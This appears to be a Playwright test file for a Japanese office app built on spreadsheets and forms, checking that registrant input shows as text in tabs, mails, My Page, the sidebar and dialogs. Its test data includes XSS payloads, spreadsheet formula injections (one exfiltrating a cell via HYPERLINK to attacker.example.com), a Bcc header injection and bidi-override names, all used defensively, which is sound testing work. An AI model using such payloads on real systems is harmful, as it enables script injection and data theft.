/** P6: what a registrant or a form answer says stays text: in tabs, mails, My Page, the sidebar and the dialogs. */
import type { FrameLocator, Page } from 'playwright-core';
import { openBrowser, desktop, phone, type TestBrowser } from '../support/browser';
import { enter, officeDay, passwordIn } from '../support/office-day';
import type { OfficeDay, Person } from '../support/office-day';
import { startTestWorkspace, type TestWorkspace } from '../support/workspace';
import { hurt } from './support/hurt';
import { cellOf, readTab, tabsWithFormulas, type } from './support/tabs';

const OWN = 'みどり-そら-かわ-ねこ-2026';
const NOW = '2026-11-22T09:00:00+09:00';

/** Would leave its mark in the page it runs in. */
const IMAGE = '<img src=x onerror="globalThis.hurt=1">';
const SCRIPT = '</script><script>globalThis.hurt=1</script>';
const ATTRIBUTE = `"' autofocus onfocus=globalThis.hurt=1 x="`;
const MARKUP = [
  IMAGE,
  SCRIPT,
  ATTRIBUTE,
  '<svg onload=globalThis.hurt=1>',
  '--><b>x</b><!--',
  '&lt;b&gt;&amp;',
];
const FORMULAS = [
  '=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', ' =1+1', '　=1+1', '＝1+1', '＝cmd|calc', '＋1', '－1', '＠SUM(A1)',
  '=HYPERLINK("https://attacker.example.com/?"&A1,"x")', '=IMPORTDATA("https://attacker.example.com")', "'=1+1", '\u0000=1+1',
]; // prettier-ignore
const COERCED = [
  '1-2',
  '0001',
  '1e5',
  'TRUE',
  '2026/04/01',
  '12:30',
  '50%',
  '¥100',
  '令和8年4月1日',
  "'x",
  '1,000',
  '１２３',
];
const ODD = [
  '{{氏名}}',
  '{{仮パスワード}}',
  '${1}',
  '$&',
  '__proto__',
  'constructor',
  '\u202e子花',
  'a\u0000b',
  'e\u0301',
  '𠮷\ufe00',
  '\u200b',
  '　',
];
const texts = [...MARKUP, ...FORMULAS, ...COERCED, ...ODD];

let workspace: TestWorkspace;
let browser: TestBrowser;
let day: OfficeDay;
let owner: string;
let staff: string;

beforeAll(async () => {
  [workspace, browser] = await Promise.all([startTestWorkspace(), openBrowser()]);
  day = officeDay(workspace.control);
  const sample = await day.sample();
  owner = sample.owner;
  staff = sample.staff[0] ?? '';
});
afterAll(async () => {
  await browser.close();
  await workspace.close();
});

const reset = (more: object = {}) =>
  workspace.control.post('/api/reset', { scenario: 'sample', now: NOW, ...more });

describe('in the tabs', () => {
  beforeAll(() => reset());

  it('the control API tells a formula a person typed, so that its silence below means something', async () => {
    await workspace.control.post('/api/tabs', { user: staff, action: 'insert', name: '計算' });
    await type(workspace.control, staff, '計算', 'A1', '=1+1');
    expect(await tabsWithFormulas(workspace.control)).toContain('計算');
    await workspace.control.post('/api/tabs', { user: staff, action: 'delete', name: '計算' });
  });

  it('every answer of the form reads back as it was given, and no cell holds a formula', async () => {
    const person = await day.person('sameMail');
    const given = new Map<string, string>();
    for (const text of texts) given.set((await day.answer(person, { 氏名: text })).responseId, text);
    const { values } = await readTab(workspace.control, 'パスワード送付');
    const [headers = [], ...lines] = values;
    const place = (header: string) => headers.indexOf(header);
    const read = new Map(lines.map((line) => [line[place('回答ID')], line]));
    for (const [id, text] of given) {
      const line = read.get(id) ?? [];
      expect(line[place('氏名')]).toBe(text);
      expect(JSON.parse(String(line[place('回答')]))).toMatchObject({ name: text });
    }
    expect(await tabsWithFormulas(workspace.control)).toEqual([]);
  });

  it.each(['登録番号', 'メールアドレス', 'メールアドレス（確認用）'])(
    'so does the answer to %s',
    async (title) => {
      const person = await day.person('noMail');
      for (const text of [...FORMULAS, IMAGE, '__proto__']) await day.answer(person, { [title]: text });
      const answers = (await day.rows('パスワード送付')).map((row) => row['回答'] ?? '').join('\n');
      for (const text of [...FORMULAS, IMAGE, '__proto__']) expect(answers).toContain(JSON.stringify(text));
      expect(await tabsWithFormulas(workspace.control)).toEqual([]);
      expect(await day.mails(person.mailToType)).toEqual([]);
    },
  );
});

describe('in a mail', () => {
  beforeEach(() => reset());

  /** A name typed into 台帳 by hand, then the form answered with it. */
  async function mailTo(name: string, answered = name) {
    const person = await day.person('noMail');
    const cell = await cellOf(workspace.control, '台帳', ['登録番号', person.number], '氏名');
    await type(workspace.control, staff, '台帳', cell, name);
    await day.answer(person, { 氏名: answered });
    const [mail] = await day.passwordMails(person.mailToType);
    if (!mail) throw new Error('No mail came.');
    return mail;
  }

  it.each([
    ['a field', '花子{{仮パスワード}}', '花子{{仮パスワード}} 様'],
    ['a pattern of replacing', '花子$&$1', '花子$&$1 様'],
    ['markup', IMAGE, `${IMAGE} 様`],
  ])('%s in a name is not filled in and not changed', async (_, name, line) => {
    const mail = await mailTo(name);
    expect(mail.body.split('\n')[0]).toBe(line);
    expect(mail.body.split(passwordIn(mail))).toHaveLength(2);
  });

  it('line breaks and marks that turn the direction of writing in a name do not reach it', async () => {
    const oneLine = '花子 Bcc: thief@example.com\u202e\u2066';
    const mail = await mailTo(oneLine.replace(' ', '\n'), oneLine);
    expect(mail.body.split('\n')[0]).toMatch(/^花子 Bcc: ?thief@example.com 様$/);
    expect(await day.mails()).toHaveLength(1);
    expect(mail.subject).not.toMatch(/[\r\n]/);
  });
});

const mypageOf = (page: Page): FrameLocator =>
  page.frameLocator('#sandboxFrame').frameLocator('#userHtmlFrame');

async function openSheet(user: string, item: string): Promise<Page> {
  const page = await browser.newPage(desktop);
  await page.goto(
    `${workspace.url}sheet?user=${encodeURIComponent(user)}&sidebar=${encodeURIComponent(item)}`,
  );
  return page;
}

describe('in Chromium', () => {
  let person: Person;

  it('the mark is seen where markup does run, so that its absence below means something', async () => {
    const page = await browser.newPage(desktop);
    await page.setContent(`<p>${IMAGE}</p>`);
    await page.waitForFunction(() => 'hurt' in globalThis);
    expect(await hurt(page)).toBe(true);
  });

  it('My Page shows markup in the ledger as text', async () => {
    await reset();
    person = await day.person('noMail');
    for (const [header, text] of [
      ['氏名', IMAGE],
      ['住所', SCRIPT],
      ['建物・部屋', ATTRIBUTE],
      ['事業所名', '{{氏名}}\u202e<b>x</b>'],
    ] as const)
      // prettier-ignore
      await type(workspace.control, staff, '台帳', await cellOf(workspace.control, '台帳', ['登録番号', person.number], header), text);
    await day.answer(person, { 氏名: IMAGE });
    await enter(day, person, (await day.passwordMails(person.mailToType))[0], OWN);

    const page = await browser.newPage(phone);
    await page.goto(`${workspace.url}exec`);
    const mypage = mypageOf(page);
    await mypage.getByLabel('登録番号').fill(person.number);
    await mypage.getByLabel('パスワード', { exact: true }).fill(OWN);
    await mypage.getByRole('button', { name: 'ログイン' }).click();
    await mypage.getByRole('link', { name: '台帳' }).click();
    await mypage.getByRole('heading', { name: '台帳の確認・修正' }).waitFor();
    const shown = await mypage.locator('body').innerText();
    for (const text of [IMAGE, SCRIPT, ATTRIBUTE, '<b>x</b>']) expect(shown).toContain(text);
    expect(await hurt(page)).toBe(false);
  });

  it('the sidebar shows markup in form answers as text, and so does the sheet beside it', async () => {
    await reset();
    const other = await day.person('otherMail');
    await day.answer(other, { 氏名: IMAGE, メールアドレス: 'a@example.com' });
    await day.answer(other, { 登録番号: SCRIPT, メールアドレス: 'b@example.com' });
    await day.answer(other, { メールアドレス: `${ATTRIBUTE}@example.com` });
    const page = await openSheet(staff, '事務局画面を開く');
    const sidebar = page.frameLocator('#sidebarFrame').frameLocator('#userHtmlFrame');
    await sidebar.getByRole('combobox').selectOption({ index: 1 });
    await sidebar.getByText(IMAGE).first().waitFor();
    const shown = await sidebar.locator('body').innerText();
    for (const text of [IMAGE, SCRIPT, `${ATTRIBUTE}@example.com`.toLowerCase()])
      expect(shown.toLowerCase()).toContain(text.toLowerCase());
    await page.getByRole('tab', { name: 'パスワード送付' }).click();
    await page.getByText(IMAGE).first().waitFor();
    expect(await hurt(page)).toBe(false);
  });

  it('the dialog of 本番 shows markup in a setting as text', async () => {
    await reset();
    const cell = await cellOf(workspace.control, '設定', ['項目', '必要ポイント'], '値');
    await type(workspace.control, owner, '設定', cell, `${IMAGE}${SCRIPT}${ATTRIBUTE}`);
    const page = await openSheet(owner, '本番に切り替える');
    const dialog = page.frameLocator('#dialogFrame').frameLocator('#userHtmlFrame');
    await dialog.getByText(`${IMAGE}${SCRIPT}${ATTRIBUTE}`).first().waitFor();
    expect(await hurt(page)).toBe(false);
  });

  it('the dialog of 初期設定 shows markup it could not read as text', async () => {
    await reset({ setUp: false });
    const { display } = await readTab(workspace.control, '台帳');
    const header = (display[0] ?? []).find((text) => text.includes('生年月日')) ?? '';
    const column = (display[0] ?? []).indexOf(header);
    const cell = `${String.fromCharCode(65 + column)}2`;
    await type(workspace.control, owner, '台帳', cell, `${IMAGE}${SCRIPT}${ATTRIBUTE}`);
    const page = await openSheet(owner, '初期設定');
    const dialog = page.frameLocator('#dialogFrame').frameLocator('#userHtmlFrame');
    await dialog.getByText(`${IMAGE}${SCRIPT}${ATTRIBUTE}`).first().waitFor({ timeout: 120_000 });
    expect(await hurt(page)).toBe(false);
  });

  it('/mail shows markup of a name as text', async () => {
    await reset();
    person = await day.person('noMail');
    const cell = await cellOf(workspace.control, '台帳', ['登録番号', person.number], '氏名');
    await type(workspace.control, staff, '台帳', cell, IMAGE);
    await day.answer(person, { 氏名: IMAGE });
    const page = await browser.newPage(desktop);
    await page.goto(`${workspace.url}mail?to=${encodeURIComponent(person.mailToType)}`);
    await page.getByText('パスワードのお知らせ').first().click();
    await page.getByText(IMAGE).first().waitFor();
    expect(await hurt(page)).toBe(false);
  });
});
